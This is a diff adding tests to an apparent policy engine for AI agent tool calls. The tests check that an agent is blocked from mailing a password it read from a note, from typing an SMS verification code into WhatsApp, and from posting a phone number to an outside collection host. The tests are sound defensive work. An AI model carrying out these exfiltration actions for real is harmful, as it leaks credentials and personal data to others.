@@ -172,3 +172,13 @@ describe('PolicyEngine: provenance edge cases found by the device scenarios', ()
     expect(decide(e, tool('a', 'http_post', { url: 'https://collect.example.net/x', body: { dump: 'address=+1 917 555 0147' } })).decision).toBe('deny');
   });
 });
+
+describe('PolicyEngine: secrets written out in what was read', () => {
+  it('a password read from a note may not be mailed, even internally; a code-first OTP may not be typed', () => {
+    const e = engine({ config: { org: { internalDomains: ['acme.example'] } } });
+    decide(e, tool('a', 'read_notes', {}), { result: [{ title: 'サーバー', body: '管理者パスワード: Kx9#mW2v!Lq' }] });
+    expect(decide(e, tool('a', 'send_email', { to: 'ops@acme.example', body: 'the admin password is Kx9#mW2v!Lq' }))).toMatchObject({ decision: 'deny', rules: expect.arrayContaining(['secrets.observed-secret-sent']) });
+    decide(e, gui('a', 'd', { op: 'read_screen', app: 'com.google.android.apps.messaging' }), { texts: ['G-583920 is your Google verification code.'] });
+    expect(decide(e, gui('a', 'd', { op: 'type', app: 'com.whatsapp', target: { resourceId: 'com.whatsapp:id/entry' }, text: '583920' })).decision).toBe('deny');
+  });
+});
